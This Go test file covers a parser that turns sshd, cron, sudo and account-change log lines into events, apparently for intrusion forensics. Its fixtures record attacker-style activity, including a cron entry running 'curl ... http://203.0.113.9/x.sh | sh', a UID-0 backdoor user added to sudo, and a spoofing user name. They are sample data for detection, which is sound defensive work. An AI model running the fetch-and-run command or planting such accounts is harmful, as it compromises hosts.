package authlog

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"demine/internal/fact"

	"github.com/google/go-cmp/cmp"
)

var cst = time.FixedZone("CST", 8*3600)

func at(h, m, s int) time.Time { return time.Date(2026, 11, 22, h, m, s, 0, cst) }

func TestParse(t *testing.T) {
	const fp = "SHA256:FtsOgVm4Hc9CErPBlPOBPpZKjIvYkWkc4qYWlUZJ8bw"
	for line, want := range map[string]fact.LogEvent{
		"Nov 22 18:59:01 web1 sshd[4211]: Accepted publickey for root from 203.0.113.9 port 55112 ssh2: ED25519 " + fp: {
			Kind: Accepted, Time: at(18, 59, 1), User: "root", From: "203.0.113.9", Method: "publickey", Key: fp, PID: 4211},
		"2026-11-22T18:59:01.123456+08:00 web1 sshd-session[9]: Accepted password for bob from 2001:db8::1 port 2 ssh2": {
			Kind: Accepted, Time: at(18, 59, 1).Add(123456 * time.Microsecond), User: "bob", From: "2001:db8::1", Method: "password", PID: 9},
		"Nov  2 08:09:01 h sshd[1]: Failed password for invalid user admin from 198.51.100.7 port 4 ssh2": {
			Kind: Failed, Time: time.Date(2026, 11, 2, 8, 9, 1, 0, cst), User: "admin", From: "198.51.100.7", Method: "password", PID: 1},
		// A user name that tries to blame another address.
		"Nov 22 18:59:01 h sshd[1]: Failed password for invalid user x from 9.9.9.9 port 1 from 198.51.100.7 port 4 ssh2": {
			Kind: Failed, Time: at(18, 59, 1), User: "x from 9.9.9.9 port 1", From: "198.51.100.7", Method: "password", PID: 1},
		"Nov 22 18:59:01 h sshd[1]: Invalid user  from 198.51.100.7 port 4": {
			Kind: Failed, Time: at(18, 59, 1), From: "198.51.100.7", Method: "invalid-user", PID: 1},
		"Nov 22 18:59:01 h sshd[1]: message repeated 5 times: [ Failed password for root from 198.51.100.7 port 4 ssh2]": {
			Kind: Failed, Time: at(18, 59, 1), User: "root", From: "198.51.100.7", Method: "password", PID: 1, Count: 5},
		"Nov 22 18:59:01 h sshd[1]: Accepted publickey for a from 1.2.3.4 port 5 ssh2: ED25519-CERT " + fp + " ID x from 9.9.9.9 port 1 (serial 0) CA RSA SHA256:zz": {
			Kind: Accepted, Time: at(18, 59, 1), User: "a", From: "1.2.3.4", Method: "publickey", Key: fp, PID: 1},
		"Nov 22 18:59:01 web1 CRON[123]: (root) CMD (curl -fsSL http://203.0.113.9/x.sh | sh)": {
			Kind: Run, Time: at(18, 59, 1), User: "root", Text: "curl -fsSL http://203.0.113.9/x.sh | sh", PID: 123},
		"Nov 22 18:59:01 web1 CROND[123]: (root) CMD (a (b))": {Kind: Run, Time: at(18, 59, 1), User: "root", Text: "a (b)", PID: 123},
		"Nov 22 18:59:01 web1 cron[77]: (root) INSECURE MODE (mode 0600 expected) (crontabs/root)": {
			Kind: Refused, Time: at(18, 59, 1), User: "root", Text: "INSECURE MODE (mode 0600 expected) (crontabs/root)", PID: 77},
		"Nov 22 18:59:01 web1 cron[77]: (*system*) ERROR (Syntax error, this crontab file will be ignored)": {
			Kind: Refused, Time: at(18, 59, 1), User: "*system*", Text: "ERROR (Syntax error, this crontab file will be ignored)", PID: 77},
		"Nov 22 18:59:01 c7 crond[77]: (root) BAD FILE MODE (/etc/cron.d/x)": {
			Kind: Refused, Time: at(18, 59, 1), User: "root", Text: "BAD FILE MODE (/etc/cron.d/x)", PID: 77},
		"Nov 22 18:59:01 alpine cron.info crond[1]: USER root pid  12 cmd run-parts /etc/periodic/15min": {
			Kind: Run, Time: at(18, 59, 1), User: "root", Text: "run-parts /etc/periodic/15min", PID: 12},
		"Nov 22 18:59:01 web1 useradd[5]: new user: name=svc, UID=0, GID=0, home=/root, shell=/bin/bash, from=none": {
			Kind: Added, Time: at(18, 59, 1), User: "svc", Text: "new user: name=svc, UID=0, GID=0, home=/root, shell=/bin/bash, from=none", PID: 5},
		"Nov 22 18:59:01 web1 usermod[5]: add 'svc' to group 'sudo'": {Kind: Changed, Time: at(18, 59, 1), User: "svc", Text: "add 'svc' to group 'sudo'", PID: 5},
		"Nov 22 18:59:01 web1 passwd[5]: pam_unix(passwd:chauthtok): password changed for root": {
			Kind: Changed, Time: at(18, 59, 1), User: "root", Text: "pam_unix(passwd:chauthtok): password changed for root", PID: 5},
		"Nov 22 18:59:01 web1 sudo:   deploy : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl restart redis": {
			Kind: Sudo, Time: at(18, 59, 1), User: "deploy", Method: "root", Text: "/usr/bin/systemctl restart redis"},
	} {
		got, ok := Parse([]byte(line), 2026, cst)
		want.Time, got.Time = want.Time.UTC(), got.Time.UTC()
		if d := cmp.Diff(want, got); d != "" || !ok {
			t.Errorf("%s: %v %s", line, ok, d)
		}
	}
}

func TestParseNothing(t *testing.T) {
	for _, line := range []string{
		"", "Nov", "Foo 22 18:59:01 h sshd[1]: Accepted password for a from 1.2.3.4 port 1",
		"Nov 22 18:59:01 h sshd[1]: Server listening on 0.0.0.0 port 22.",
		"Nov 22 18:59:01 h sshd[1]: Accepted password for a from nowhere port 1",
		"Nov 22 18:59:01 h CRON[1]: pam_unix(cron:session): session opened for user root",
		"Nov 22 18:59:01 h crond[1]: (root) CMDEND (x)",
		"Nov 22 18:59:01 h sudo:      bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/iptables -F",
		"Nov 22 18:59:01 h sudo:      bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/iptables -F",
		"Nov 22 18:59:01 h app[1]: sshd[2]: Accepted password for root from 1.2.3.4 port 1 ssh2",
		"Nov 22 25:59:01 h sshd[1]: Accepted password for a from 1.2.3.4 port 1",
		"anFeb 2 sshd",
	} {
		if e, ok := Parse([]byte(line), 2026, cst); ok {
			t.Errorf("%s: %+v", line, e)
		}
	}
}

// collect gives a Collector all lines, as a log with its head.
func collect(b []byte, now time.Time, path fact.Path) []fact.LogEvent {
	c := &Collector{Now: now, Loc: cst, Path: path}
	n := 0
	for line := range strings.Lines(string(b)) {
		n++
		c.Add([]byte(strings.TrimSuffix(line, "\n")), n, 0)
	}
	return c.Events()
}

func TestAnchors(t *testing.T) {
	for _, line := range []string{
		"Failed password for root from 198.51.100.7 port 4 ssh2", "Invalid user a from 198.51.100.7 port 4", "(root) CMD (x)",
		"Accepted password for bob from 2001:db8::1 port 2 ssh2", "a : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/x",
		"new user: name=svc, UID=0", "delete user 'svc'", "add 'svc' to group 'sudo'", "pam_unix(passwd:chauthtok): password changed for root",
	} {
		for _, program := range []string{"sshd", "cron", "sudo", "usermod"} {
			line := "Nov 22 18:59:01 h " + program + "[1]: " + line
			if _, ok := Parse([]byte(line), 2026, cst); ok && !anchored(line) {
				t.Errorf("no anchor in %q", line)
			}
		}
	}
	for _, r := range refusals {
		if !anchored("Nov 22 18:59:01 h cron[1]: (root) " + string(r) + " (x)") {
			t.Errorf("no anchor in %q", r)
		}
	}
}

func anchored(line string) bool {
	return slices.ContainsFunc(Anchors, func(a string) bool { return strings.Contains(line, a) })
}

func TestYears(t *testing.T) {
	log := "Dec 31 23:59:59 h CRON[1]: (root) CMD (old)\n\nJan  1 00:00:01 h CRON[2]: (root) CMD (new)\nJan  2 09:00:00 h CRON[3]: (root) CMD (ahead)\n"
	got := collect([]byte(log), time.Date(2027, 1, 1, 10, 0, 0, 0, cst), "/var/log/syslog")
	want := []fact.LogEvent{
		{Kind: Run, Time: time.Date(2026, 12, 31, 23, 59, 59, 0, cst), User: "root", Text: "old", PID: 1, Clock: fact.ClockYear, Origin: fact.Origin{Path: "/var/log/syslog", Line: 1}},
		{Kind: Run, Time: time.Date(2027, 1, 1, 0, 0, 1, 0, cst), User: "root", Text: "new", PID: 2, Clock: fact.ClockYear, Origin: fact.Origin{Path: "/var/log/syslog", Line: 3}},
		{Kind: Run, Time: time.Date(2027, 1, 2, 9, 0, 0, 0, cst), User: "root", Text: "ahead", PID: 3, Clock: fact.ClockYear, Origin: fact.Origin{Path: "/var/log/syslog", Line: 4}},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestFolds(t *testing.T) {
	var b strings.Builder
	for i := range 200 {
		fmt.Fprintf(&b, "Nov 22 18:%02d:%02d h sshd[%d]: Failed password for u%d from 198.51.100.7 port 4 ssh2\n", i/60, i%60, i, i)
		if i < foldAbove {
			fmt.Fprintf(&b, "Nov 22 18:%02d:%02d h sshd[%d]: Failed password for v from 198.51.100.8 port 4 ssh2\n", i/60, i%60, i)
		}
	}
	b.WriteString("Nov 22 19:00:00 h sshd[1]: Accepted password for root from 198.51.100.7 port 4 ssh2\n")
	got := collect([]byte(b.String()), at(20, 0, 0), "/x")
	if len(got) != 1+foldAbove+1 {
		t.Fatalf("%d events", len(got))
	}
	f := got[0]
	if f.Count != 200 || f.User != "" || f.Origin.Line != 1 || !f.Until.Equal(at(18, 3, 19)) {
		t.Errorf("folded: %+v", f)
	}
	if got[len(got)-1].Kind != Accepted {
		t.Errorf("last: %+v", got[len(got)-1])
	}
}

// What an address failed after it was let in does not count as before.
func TestFoldsUntilLogin(t *testing.T) {
	var b strings.Builder
	for i := range 60 {
		fmt.Fprintf(&b, "Nov 22 18:00:%02d h sshd[1]: Failed password for root from 198.51.100.7 port 4 ssh2\n", i)
	}
	b.WriteString("Nov 22 18:30:00 h sshd[1]: Accepted password for root from 198.51.100.7 port 4 ssh2\n")
	for i := range 59 {
		fmt.Fprintf(&b, "Nov 22 19:00:%02d h sshd[1]: Failed password for root from 198.51.100.7 port 4 ssh2\n", i)
	}
	var got []string
	for _, e := range collect([]byte(b.String()), at(20, 0, 0), "/x") {
		got = append(got, fmt.Sprint(e.Kind, " ", e.Count, " ", e.Time.Format("15:04:05"), " ", e.Until.Format("15:04:05")))
	}
	want := []string{"ssh-failed 60 " + at(18, 0, 0).Format("15:04:05") + " " + at(18, 0, 59).Format("15:04:05"),
		"ssh-accepted 0 " + at(18, 30, 0).Format("15:04:05") + " 00:00:00",
		"ssh-failed 59 " + at(19, 0, 0).Format("15:04:05") + " " + at(19, 0, 58).Format("15:04:05")}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

// A log of any size leaves so many events: the newest, and what cron ran goes
// first; failures of very many addresses are one each.
func TestBounded(t *testing.T) {
	c := &Collector{Now: at(20, 0, 0), Loc: cst}
	c.Add([]byte("Nov 22 18:00:00 h sshd[1]: Accepted password for root from 192.0.2.1 port 4 ssh2"), 1, 0)
	for i := range 3*maxKept + 3*maxFailed {
		c.Add(fmt.Appendf(nil, "Nov 22 18:00:01 h CRON[%d]: (root) CMD (x)", i), i, 0)
		c.Add(fmt.Appendf(nil, "Nov 22 18:00:01 h sshd[1]: Failed password for root from 10.0.%d.%d port 4 ssh2", i/2%100, i%50), i, 0)
	}
	got := c.Events()
	if len(got) > 2*maxKept+maxFailed+5000 || got[0].Kind != Accepted {
		t.Errorf("%d events, the first %+v", len(got), got[0])
	}
	failed := 0
	for _, e := range got {
		if e.Kind == Failed {
			failed += max(1, e.Count)
		}
	}
	if failed != 3*maxKept+3*maxFailed {
		t.Errorf("%d failures", failed)
	}
}

func FuzzCollector(f *testing.F) {
	f.Add([]byte("Nov 22 18:59:01 h sshd[1]: Accepted publickey for root from 1.2.3.4 port 55 ssh2: ED25519 SHA256:x\n"))
	f.Add([]byte("2026-11-22T18:59:01+08:00 h CRON[1]: (root) CMD (x)\nNov 22 18:59:01 h sudo: a : TTY=x ; USER=b ; COMMAND=c"))
	f.Add([]byte("Nov 22 18:59:01 alpine cron.info crond[1]: USER root pid  12 cmd x"))
	f.Add([]byte("<86>Feb 29 18:59:01 h sshd[1]: message repeated 5 times: [ Failed password for a from 1.2.3.4 port 1]"))
	f.Fuzz(func(t *testing.T, b []byte) {
		lines := strings.Count(string(b), "\n") + 1
		last := 0
		for _, e := range collect(b, at(12, 0, 0), "/x") {
			if e.Origin.Line <= last || e.Origin.Line > lines {
				t.Fatalf("line %d after %d of %d", e.Origin.Line, last, lines)
			}
			last = e.Origin.Line
			if e.Kind == "" || !utf8.ValidString(e.User+e.Text+e.Key+e.Method) {
				t.Fatalf("bad event %+v", e)
			}
		}
	})
}

func BenchmarkCollector(b *testing.B) {
	line := "Nov 22 18:59:01 h sshd[1]: Failed password for invalid user admin from 198.51.100.7 port 4 ssh2\n"
	log := []byte(strings.Repeat(line, 10000))
	b.SetBytes(int64(len(log)))
	b.ReportAllocs()
	for b.Loop() {
		collect(log, at(20, 0, 0), "/x")
	}
}
